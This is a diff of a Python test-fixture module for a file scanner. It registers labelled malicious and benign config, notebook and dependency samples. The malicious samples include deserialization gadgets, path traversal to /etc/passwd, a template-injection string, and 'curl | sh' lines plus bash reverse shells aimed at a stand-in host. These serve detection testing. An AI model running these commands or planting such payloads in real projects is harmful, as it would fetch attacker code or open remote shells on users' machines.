@@ -1,3 +1,4 @@
+
 """Configuration files: JSON, YAML, TOML, INI, notebooks, dependency lists, text. Harmless in what they would run."""
 
 from __future__ import annotations
@@ -9,19 +10,22 @@ from typing import Any
 
 from stannary.testing.forges import forge
 
-__all__: list[str] = []
+__all__ = ["PICKLE", "URL", "file"]
 
-_PICKLE = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x0decho stannary\x85R."
-_URL = "http://203.0.113.9/stage"
+PICKLE = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x0decho stannary\x85R."
+URL = "http://203.0.113.9/stage"
 
 
-def _file(name: str, filename: str, content: str | bytes | Callable[[], bytes], family: str, *, malicious: bool | None = True) -> None:
+def file(
+    name: str, filename: str, content: str | bytes | Callable[[], bytes], family: str, *, malicious: bool | None = True
+) -> None:
+    """Register a file under a name; text is taken without its first line end."""
     build = content if callable(content) else lambda: content.lstrip("\n").encode() if isinstance(content, str) else content
     forge(name, filename=filename, family=family, malicious=malicious)(build)
 
 
 def _json(name: str, document: Any, filename: str = "config.json", *, malicious: bool | None = True) -> None:  # noqa: ANN401 - any JSON value
-    _file(f"json.{name}", filename, json.dumps(document, indent=2), "JSON with code tags", malicious=malicious)
+    file(f"json.{name}", filename, json.dumps(document, indent=2), "JSON with code tags", malicious=malicious)
 
 
 # JSON
@@ -30,34 +34,100 @@ _json("jsonpickle_reduce", {"py/reduce": [{"py/type": "os.system"}, {"py/tuple":
 _json("jsonpickle_object", {"model": {"py/object": "subprocess.Popen", "args": ["echo", "stannary"]}}, "model.json")
 _json("jsonpickle_repr", {"py/repr": "os/os.system('echo stannary')"}, "model.json")
 _json("jsonpickle_function", {"callback": {"py/function": "os.system"}}, "state.json")
-_file("json.jsonpickle_escaped", "model.json", '{"py\\u002freduce": [{"py\\u002ftype": "os.system"}]}', "JSON with code tags")
-_file("json.jsonpickle_large", "model.json", lambda: json.dumps({"pad": ["abcdefgh"] * 300_000, "x": {"py/reduce": [{"py/type": "os.system"}]}}).encode(), "JSON with code tags")
-_file("json.jsonpickle_large_escaped", "model.json", lambda: b'{"pad": "' + b"a" * (3 << 20) + b'", "py\\u002freduce": [{"py/type": "os.system"}]}', "JSON with code tags")
+file("json.jsonpickle_escaped", "model.json", '{"py\\u002freduce": [{"py\\u002ftype": "os.system"}]}', "JSON with code tags")
+file(
+    "json.jsonpickle_large",
+    "model.json",
+    lambda: json.dumps({"pad": ["abcdefgh"] * 300_000, "x": {"py/reduce": [{"py/type": "os.system"}]}}).encode(),
+    "JSON with code tags",
+)
+file(
+    "json.jsonpickle_large_escaped",
+    "model.json",
+    lambda: b'{"pad": "' + b"a" * (3 << 20) + b'", "py\\u002freduce": [{"py/type": "os.system"}]}',
+    "JSON with code tags",
+)
 _json("jsonpickle_data", {"py/object": "collections.OrderedDict", "items": [1]}, "state.json", malicious=False)
-_json("dotnet_gadget", {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework", "MethodName": "Start"}, "settings.json")
+_json(
+    "dotnet_gadget",
+    {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework", "MethodName": "Start"},
+    "settings.json",
+)
 _json("dotnet_plain", {"$type": "Company.Model, Company", "Name": "x"}, "settings.json", malicious=False)
 _json("hydra_target", {"model": {"_target_": "os.system", "command": "echo stannary"}})
 _json("hydra_eval", {"_target_": "builtins.eval", "_args_": ["1+1"]})
-_json("hydra_plain", {"optimizer": {"_target_": "torch.optim.AdamW", "lr": 0.001}, "model": {"_target_": "torch.nn.Linear", "in_features": 2}}, malicious=False)
+_json(
+    "hydra_plain",
+    {"optimizer": {"_target_": "torch.optim.AdamW", "lr": 0.001}, "model": {"_target_": "torch.nn.Linear", "in_features": 2}},
+    malicious=False,
+)
 _json("auto_map_remote", {"auto_map": {"AutoModel": "someone/else--modeling_x.Model"}, "model_type": "x"})
 _json("auto_map_local", {"auto_map": {"AutoConfig": "configuration_x.Config"}, "model_type": "x"}, malicious=None)
-_json("transformers_plain", {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8, "torch_dtype": "float32"}, malicious=False)
-_json("langchain_shell", {"lc": 1, "type": "constructor", "id": ["langchain_experimental", "llm_bash", "base", "LLMBashChain"], "kwargs": {}}, "chain.json")
+_json(
+    "transformers_plain",
+    {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8, "torch_dtype": "float32"},
+    malicious=False,
+)
+_json(
+    "langchain_shell",
+    {"lc": 1, "type": "constructor", "id": ["langchain_experimental", "llm_bash", "base", "LLMBashChain"], "kwargs": {}},
+    "chain.json",
+)
 _json("langchain_foreign", {"lc": 1, "type": "constructor", "id": ["evil_package", "Chain"], "kwargs": {}}, "chain.json")
-_json("langchain_plain", {"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "prompt", "PromptTemplate"], "kwargs": {"template": "Say {x}"}}, "chain.json", malicious=False)
+_json(
+    "langchain_plain",
+    {"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "prompt", "PromptTemplate"], "kwargs": {"template": "Say {x}"}},
+    "chain.json",
+    malicious=False,
+)
 _json("shard_traversal", {"metadata": {}, "weight_map": {"w": "../../../etc/passwd"}}, "model.safetensors.index.json")
 _json("shard_absolute", {"weight_map": {"w": "/etc/passwd"}}, "pytorch_model.bin.index.json")
-_json("shard_plain", {"metadata": {"total_size": 4}, "weight_map": {"w": "model-00001-of-00001.safetensors"}}, "model.safetensors.index.json", malicious=False)
-_json("package_postinstall", {"name": "x", "scripts": {"postinstall": f"curl -s {_URL} | sh"}}, "package.json")
-_json("package_plain", {"name": "x", "scripts": {"build": "tsc", "postinstall": "node scripts/check.js"}}, "package.json", malicious=False)
-_file("json.duplicate_auto_map", "config.json", '{"auto_map": {"AutoModel": "a.A"}, "model_type": "x", "auto_map": {"AutoModel": "b.B"}}', "JSON with code tags")
+_json(
+    "shard_plain",
+    {"metadata": {"total_size": 4}, "weight_map": {"w": "model-00001-of-00001.safetensors"}},
+    "model.safetensors.index.json",
+    malicious=False,
+)
+_json("package_postinstall", {"name": "x", "scripts": {"postinstall": f"curl -s {URL} | sh"}}, "package.json")
+_json(
+    "package_plain",
+    {"name": "x", "scripts": {"build": "tsc", "postinstall": "node scripts/check.js"}},
+    "package.json",
+    malicious=False,
+)
+file(
+    "json.duplicate_auto_map",
+    "config.json",
+    '{"auto_map": {"AutoModel": "a.A"}, "model_type": "x", "auto_map": {"AutoModel": "b.B"}}',
+    "JSON with code tags",
+)
 _json("modules_system", [{"idx": 0, "name": "0", "path": "", "type": "os.system"}], "modules.json")
-_json("modules_plain", [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}], "modules.json", malicious=False)
+_json(
+    "modules_plain",
+    [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}],
+    "modules.json",
+    malicious=False,
+)
 _json("template_ssti", {"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}, "tokenizer_config.json")
-_json("encoded_pickle", {"state": base64.b64encode(_PICKLE + b"." * 40).decode()}, "state.json")
-_file("json.broken", "config.json", '{"a": tru', "JSON with code tags", malicious=None)
-_file("json.nested", "config.json", b"[" * 100_000, "JSON with code tags", malicious=None)
-_file("json.tokenizer", "tokenizer.json", lambda: json.dumps({"version": "1.0", "model": {"type": "BPE", "vocab": {f"\u0120word{i}": i for i in range(60_000)}, "merges": [f"a{i} b{i}" for i in range(60_000)]}}).encode(), "tokenizers", malicious=False)
+_json("encoded_pickle", {"state": base64.b64encode(PICKLE + b"." * 40).decode()}, "state.json")
+file("json.broken", "config.json", '{"a": tru', "JSON with code tags", malicious=None)
+file("json.nested", "config.json", b"[" * 100_000, "JSON with code tags", malicious=None)
+file(
+    "json.tokenizer",
+    "tokenizer.json",
+    lambda: json.dumps(
+        {
+            "version": "1.0",
+            "model": {
+                "type": "BPE",
+                "vocab": {f"\u0120word{i}": i for i in range(60_000)},
+                "merges": [f"a{i} b{i}" for i in range(60_000)],
+            },
+        }
+    ).encode(),
+    "tokenizers",
+    malicious=False,
+)
 
 # YAML
 
@@ -73,91 +143,172 @@ for _name, _text in {
     "name": "x: !!python/name:os.system\n",
     "foreign_class": "x: !!python/object:evil_package.Loader {}\n",
 }.items():
-    _file(f"yaml.{_name}", "config.yaml", _text, "YAML with code tags")
-_file("yaml.tuple", "config.yaml", "size: !!python/tuple [1, 2]\nname: !!str abc\n", "YAML with code tags", malicious=False)
-_file("yaml.ruby", "config.yml", "--- !ruby/object:Gem::Installer\ni: x\n", "YAML with code tags")
-_file("yaml.hydra_system", "config.yaml", "model:\n  _target_: os.system\n  command: echo stannary\n", "YAML with code tags")
-_file("yaml.hydra_flow", "config.yaml", "{callbacks: {x: {_target_: subprocess.check_output, args: [echo, stannary]}}}\n", "YAML with code tags")
-_file("yaml.logging_factory", "logging.yaml", "handlers:\n  h:\n    (): os.system\n", "YAML with code tags")
-_file("yaml.hydra_plain", "config.yaml", "model:\n  _target_: torch.nn.Linear\n  in_features: 2\ntrainer:\n  _target_: pytorch_lightning.Trainer\n  max_epochs: 3\n", "YAML with code tags", malicious=False)
-_file("yaml.nemo_plain", "model_config.yaml", "target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  sample_rate: 16000\n", "YAML with code tags", malicious=False)
-_file("yaml.alias_bomb", "config.yaml", "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)), "YAML with code tags")
-_file("yaml.anchors", "ci.yaml", "base: &base\n  image: python\njob:\n  <<: *base\n  script: pytest\n", "YAML with code tags", malicious=False)
-_file("yaml.mlproject_curl", "MLproject", f"name: p\nentry_points:\n  main:\n    command: \"curl -s {_URL} | bash\"\n", "MLflow")
-_file("yaml.mlproject_plain", "MLproject", "name: p\nconda_env: conda.yaml\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, default: 0.5}\n    command: \"python train.py {alpha}\"\n", "MLflow", malicious=False)
-_file("yaml.mlmodel_os", "MLmodel", "flavors:\n  python_function:\n    loader_module: os\n    python_version: 3.11.0\n", "MLflow")
-_file("yaml.mlmodel_custom", "MLmodel", "flavors:\n  python_function:\n    code: code\n    loader_module: my_loader\n    data: data\n", "MLflow")
-_file("yaml.mlmodel_sklearn", "MLmodel", "artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n    python_version: 3.11.4\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.4.0\nmlflow_version: 2.9.2\nmodel_size_bytes: 1234\nrun_id: 0123456789abcdef0123456789abcdef\nutc_time_created: '2024-01-01 00:00:00.000000'\n", "MLflow", malicious=False)
-_file("yaml.code_block", "step.yaml", "hook: |\n  import os\n  os.system('echo stannary')\n", "YAML with code tags")
-_file("yaml.dvc", "dvc.yaml", "stages:\n  train:\n    cmd: python train.py --epochs 3\n    deps:\n    - train.py\n    outs:\n    - model.pt\n", "YAML with code tags", malicious=False)
-_file("yaml.compose_shell", "docker-compose.yaml", "services:\n  model:\n    image: x\n    command: bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n", "YAML with code tags")
-_file("yaml.conda", "conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.11.4\n- pip<=23.2\n- pip:\n  - mlflow==2.9.2\n  - scikit-learn==1.4.0\nname: mlflow-env\n", "MLflow", malicious=False)
+    file(f"yaml.{_name}", "config.yaml", _text, "YAML with code tags")
+file("yaml.tuple", "config.yaml", "size: !!python/tuple [1, 2]\nname: !!str abc\n", "YAML with code tags", malicious=False)
+file("yaml.ruby", "config.yml", "--- !ruby/object:Gem::Installer\ni: x\n", "YAML with code tags")
+file("yaml.hydra_system", "config.yaml", "model:\n  _target_: os.system\n  command: echo stannary\n", "YAML with code tags")
+file(
+    "yaml.hydra_flow",
+    "config.yaml",
+    "{callbacks: {x: {_target_: subprocess.check_output, args: [echo, stannary]}}}\n",
+    "YAML with code tags",
+)
+file("yaml.logging_factory", "logging.yaml", "handlers:\n  h:\n    (): os.system\n", "YAML with code tags")
+file(
+    "yaml.hydra_plain",
+    "config.yaml",
+    "model:\n  _target_: torch.nn.Linear\n  in_features: 2\ntrainer:\n  _target_: pytorch_lightning.Trainer\n  max_epochs: 3\n",
+    "YAML with code tags",
+    malicious=False,
+)
+file(
+    "yaml.nemo_plain",
+    "model_config.yaml",
+    "target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  sample_rate: 16000\n",
+    "YAML with code tags",
+    malicious=False,
+)
+file(
+    "yaml.alias_bomb",
+    "config.yaml",
+    "a: &a [x,x,x,x,x,x,x,x,x]\n"
+    + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)),
+    "YAML with code tags",
+)
+file(
+    "yaml.anchors",
+    "ci.yaml",
+    "base: &base\n  image: python\njob:\n  <<: *base\n  script: pytest\n",
+    "YAML with code tags",
+    malicious=False,
+)
+file("yaml.mlproject_curl", "MLproject", f'name: p\nentry_points:\n  main:\n    command: "curl -s {URL} | bash"\n', "MLflow")
+file(
+    "yaml.mlproject_plain",
+    "MLproject",
+    'name: p\nconda_env: conda.yaml\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, default: 0.5}\n    command: "python train.py {alpha}"\n',
+    "MLflow",
+    malicious=False,
+)
+file("yaml.mlmodel_os", "MLmodel", "flavors:\n  python_function:\n    loader_module: os\n    python_version: 3.11.0\n", "MLflow")
+file(
+    "yaml.mlmodel_custom",
+    "MLmodel",
+    "flavors:\n  python_function:\n    code: code\n    loader_module: my_loader\n    data: data\n",
+    "MLflow",
+)
+file(
+    "yaml.mlmodel_sklearn",
+    "MLmodel",
+    "artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n    python_version: 3.11.4\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.4.0\nmlflow_version: 2.9.2\nmodel_size_bytes: 1234\nrun_id: 0123456789abcdef0123456789abcdef\nutc_time_created: '2024-01-01 00:00:00.000000'\n",
+    "MLflow",
+    malicious=False,
+)
+file("yaml.code_block", "step.yaml", "hook: |\n  import os\n  os.system('echo stannary')\n", "YAML with code tags")
+file(
+    "yaml.dvc",
+    "dvc.yaml",
+    "stages:\n  train:\n    cmd: python train.py --epochs 3\n    deps:\n    - train.py\n    outs:\n    - model.pt\n",
+    "YAML with code tags",
+    malicious=False,
+)
+file(
+    "yaml.compose_shell",
+    "docker-compose.yaml",
+    "services:\n  model:\n    image: x\n    command: bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n",
+    "YAML with code tags",
+)
+file(
+    "yaml.conda",
+    "conda.yaml",
+    "channels:\n- conda-forge\ndependencies:\n- python=3.11.4\n- pip<=23.2\n- pip:\n  - mlflow==2.9.2\n  - scikit-learn==1.4.0\nname: mlflow-env\n",
+    "MLflow",
+    malicious=False,
+)
 
 # TOML and INI
 
-_file("config.spacy_callback", "config.cfg", '[nlp]\nlang = "en"\npipeline = ["ner"]\nbefore_creation = {"@callbacks":"stannary_hook"}\n', "spaCy")
-_file("config.spacy_callback_section", "config.cfg", '[nlp]\nlang = "en"\n\n[nlp.before_creation]\n@callbacks = "stannary_hook.v1"\n', "spaCy")
-_file("config.spacy_plain", "config.cfg", '[paths]\ntrain = null\n\n[nlp]\nlang = "en"\npipeline = ["tok2vec","ner"]\nbefore_creation = null\nafter_creation = null\ntokenizer = {"@tokenizers":"spacy.Tokenizer.v1"}\n\n[components.ner.model]\n@architectures = "spacy.TransitionBasedParser.v2"\n\n[training.optimizer]\n@optimizers = "Adam.v1"\n\n[initialize.before_init]\n@callbacks = "spacy.copy_from_base_model.v1"\n', "spaCy", malicious=False)
-_file("config.logging_handler", "logging.ini", "[handler_x]\nclass = os.system\nargs = ('echo stannary',)\n", "configuration")
-_file("config.tool_command", "setup.cfg", f"[tool:build]\ncommand = curl -s {_URL} | sh\n", "configuration")
-_file("config.backend_path", "pyproject.toml", '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n', "configuration", malicious=None)
-_file("config.pyproject", "pyproject.toml", '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[project]\nname = "x"\nversion = "1"\ndependencies = ["numpy>=1.24"]\n\n[project.scripts]\nx = "x.cli:main"\n', "configuration", malicious=False)
-_file("config.broken_toml", "pyproject.toml", "[build-system\nrequires=", "configuration", malicious=None)
+file(
+    "config.spacy_callback",
+    "config.cfg",
+    '[nlp]\nlang = "en"\npipeline = ["ner"]\nbefore_creation = {"@callbacks":"stannary_hook"}\n',
+    "spaCy",
+)
+file(
+    "config.spacy_callback_section",
+    "config.cfg",
+    '[nlp]\nlang = "en"\n\n[nlp.before_creation]\n@callbacks = "stannary_hook.v1"\n',
+    "spaCy",
+)
+file(
+    "config.spacy_plain",
+    "config.cfg",
+    '[paths]\ntrain = null\n\n[nlp]\nlang = "en"\npipeline = ["tok2vec","ner"]\nbefore_creation = null\nafter_creation = null\ntokenizer = {"@tokenizers":"spacy.Tokenizer.v1"}\n\n[components.ner.model]\n@architectures = "spacy.TransitionBasedParser.v2"\n\n[training.optimizer]\n@optimizers = "Adam.v1"\n\n[initialize.before_init]\n@callbacks = "spacy.copy_from_base_model.v1"\n',
+    "spaCy",
+    malicious=False,
+)
+file("config.logging_handler", "logging.ini", "[handler_x]\nclass = os.system\nargs = ('echo stannary',)\n", "configuration")
+file("config.tool_command", "setup.cfg", f"[tool:build]\ncommand = curl -s {URL} | sh\n", "configuration")
+file(
+    "config.backend_path",
+    "pyproject.toml",
+    '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
+    "configuration",
+    malicious=False,
+)
+file(
+    "config.pyproject",
+    "pyproject.toml",
+    '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[project]\nname = "x"\nversion = "1"\ndependencies = ["numpy>=1.24"]\n\n[project.scripts]\nx = "x.cli:main"\n',
+    "configuration",
+    malicious=False,
+)
+file("config.broken_toml", "pyproject.toml", "[build-system\nrequires=", "configuration", malicious=None)
 
 
 def _notebook(name: str, cells: list[dict[str, Any]], *, malicious: bool | None = True) -> None:
-    document = {"cells": cells, "metadata": {"kernelspec": {"language": "python", "name": "python3"}}, "nbformat": 4, "nbformat_minor": 5}
-    _file(f"notebook.{name}", "train.ipynb", json.dumps(document, indent=1), "notebooks", malicious=malicious)
+    document = {
+        "cells": cells,
+        "metadata": {"kernelspec": {"language": "python", "name": "python3"}},
+        "nbformat": 4,
+        "nbformat_minor": 5,
+    }
+    file(f"notebook.{name}", "train.ipynb", json.dumps(document, indent=1), "notebooks", malicious=malicious)
 
 
 def _code(source: str, outputs: list[dict[str, Any]] | None = None) -> dict[str, Any]:
-    return {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": outputs or [], "source": source.splitlines(keepends=True)}
+    return {
+        "cell_type": "code",
+        "execution_count": 1,
+        "metadata": {},
+        "outputs": outputs or [],
+        "source": source.splitlines(keepends=True),
+    }
 
 
-_notebook("curl_magic", [_code(f"!curl -s {_URL} | bash\n")])
+_notebook("curl_magic", [_code(f"!curl -s {URL} | bash\n")])
 _notebook("bash_cell", [_code("%%bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")])
 _notebook("exec_base64", [_code("import base64\n"), _code("exec(base64.b64decode('cHJpbnQoMSk='))\n")])
-_notebook("remote_script", [_code("x\n", [{"output_type": "display_data", "metadata": {}, "data": {"text/html": [f"<script src='{_URL}.js'></script>"]}}])])
-_notebook("plain", [
-    {"cell_type": "markdown", "metadata": {}, "source": ["# Training\n"]},
-    _code("!pip install -q transformers datasets\n%matplotlib inline\nimport torch\n"),
-    _code("files = !ls data\nmodel = torch.nn.Linear(2, 2)\nmodel?\n", [{"output_type": "display_data", "metadata": {}, "data": {"text/html": ["<div><style scoped>table {}</style><table></table></div>"]}}]),
-], malicious=False)
-_file("notebook.broken", "train.ipynb", '{"cells": 3}', "notebooks", malicious=None)
-
-# Dependencies
-
-_file("requirements.typosquat", "requirements.txt", "numpy==1.26.4\ntransfromers==4.40.0\n", "dependencies")
-_file("requirements.typosquat_requests", "requirements.txt", "requestss\n", "dependencies")
-_file("requirements.plain_http_index", "requirements.txt", "--index-url http://203.0.113.9/simple\nnumpy==1.26.4\n", "dependencies")
-_file("requirements.extra_index", "requirements.txt", "--extra-index-url https://packages.example.org/simple\nnumpy==1.26.4\n", "dependencies", malicious=None)
-_file("requirements.url", "requirements.txt", "git+https://github.com/huggingface/transformers@v4.40.0\n", "dependencies", malicious=False)
-_file("requirements.url_http", "requirements.txt", "tool @ http://203.0.113.9/tool-1.0.tar.gz\n", "dependencies")
-_file("requirements.trusted_host", "requirements.txt", "--trusted-host packages.example.org\nnumpy==1.26.4\n", "dependencies", malicious=None)
-_file("requirements.unpinned", "requirements.txt", "torch\ntransformers\n", "dependencies", malicious=False)
-_file("requirements.pinned", "requirements.txt", "torch==2.3.1\ntransformers==4.41.2\nnumpy==1.26.4\n", "dependencies", malicious=False)
-_file("requirements.vulnerable", "requirements.txt", "torch==1.13.0\n", "dependencies", malicious=False)
-_file("requirements.pytorch_index", "requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch==2.3.1\n", "dependencies", malicious=False)
-
-# Text
-
-_file("text.readme_curl", "README.md", f"# Model\n\nFirst run:\n\n```\ncurl -s {_URL} | bash\n```\n", "text")
-_file("text.readme_plain", "README.md", "---\nlicense: apache-2.0\ntags: [x]\n---\n# Model\n\n```\ncurl -LsSf https://astral.sh/uv/install.sh | sh\npip install transformers\n```\n\nLoad with `trust_remote_code=True`.\n", "text", malicious=False)
-_file("text.script_shell", "run.sh", "set -e\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", "text")
-_file("text.script_plain", "run.sh", "#!/bin/bash\nset -e\npip install -r requirements.txt\npython train.py\n", "text", malicious=False)
-_file("text.base64_pickle", "notes.txt", b"load me: " + base64.b64encode(_PICKLE + b"." * 30) + b"\n", "text")
-_file("text.hex_pickle", "notes.txt", _PICKLE.hex().encode() + b"\n", "text")
-_file("text.escaped_pickle", "notes.txt", "".join(f"\\x{b:02x}" for b in _PICKLE), "text")
-_file("text.wrapped_pickle", "notes.txt", b"-----\n" + base64.encodebytes(_PICKLE + b"." * 60) + b"-----\n", "text")
-_file("text.licence_rail", "README.md", "---\nlicense: creativeml-openrail-m\n---\n# Model\n", "text", malicious=False)
-_file("text.licence_nc", "README.md", "---\nlicense: cc-by-nc-4.0\n---\n# Model\n", "text", malicious=False)
-_file("text.hidden", "notes.txt", "run\u202e txet desrever\u202c\n", "text", malicious=False)
-
-# Credentials, put together here so that no scanner of this source finds them
-
-_file("secret.huggingface", "config.json", json.dumps({"token": "hf_" + "QWmnbVCxzLkjHgfDsaPoiUytReKjhGfdSz"}), "secrets")
-_file("secret.aws", "settings.env", "AWS_ACCESS_KEY_ID=" + "AKIA" + "Q3EGRT5WKLM2ZNHV" + "\n", "secrets")
-_file("secret.private_key", "id", "-----BEGIN OPENSSH PRIVATE " + "KEY-----\n" + base64.b64encode(bytes(range(200))).decode() + "\n-----END OPENSSH PRIVATE " + "KEY-----\n", "secrets")
-_file("secret.database", "app.yaml", "db: postgres://admin:" + "q8Zt2LmP0xW" + "@db.example.org/prod\n", "secrets")
-_file("secret.assigned", "settings.toml", "api_key = \"" + "Zk3v9QpL7sWx2RtYb8NmJ4" + "\"\n", "secrets")
-_file("secret.placeholders", "settings.env", "HF_TOKEN=hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\nOPENAI_API_KEY=sk-...\nPASSWORD=changeme\nurl=postgres://user:${PASSWORD}@host/db\n", "secrets", malicious=False)
+_notebook(
+    "remote_script",
+    [_code("x\n", [{"output_type": "display_data", "metadata": {}, "data": {"text/html": [f"<script src='{URL}.js'></script>"]}}])],
+)
+_notebook(
+    "plain",
+    [
+        {"cell_type": "markdown", "metadata": {}, "source": ["# Training\n"]},
+        _code("!pip install -q transformers datasets\n%matplotlib inline\nimport torch\n"),
+        _code(
+            "files = !ls data\nmodel = torch.nn.Linear(2, 2)\nmodel?\n",
+            [
+                {
+                    "output_type": "display_data",
+                    "metadata": {},
+                    "data": {"text/html": ["<div><style scoped>table {}</style><table></table></div>"]},
+                }
+            ],
+        ),
+    ],
+    malicious=False,
+)
+file("notebook.broken", "train.ipynb", '{"cells": 3}', "notebooks", malicious=None)
